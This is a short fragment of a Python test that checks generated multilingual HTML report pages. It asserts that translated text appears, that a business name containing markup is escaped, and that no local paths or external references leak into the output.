        html = (folder / page).read_text(encoding="utf-8")
        text = BeautifulSoup(html, "html.parser").get_text()
        assert [line for line in said[lang] if line not in text] == [], page
        assert t("report.warnings_title", lang) in text, page
        assert MARKUP_BUSINESS not in html and "Warung &lt;b&gt;Ibu&lt;/b&gt; Sari" in html, page
        assert str(tmp_path) not in text, page  # the methodology is named by its file's name alone
        assert find_external_references(html) == [], page
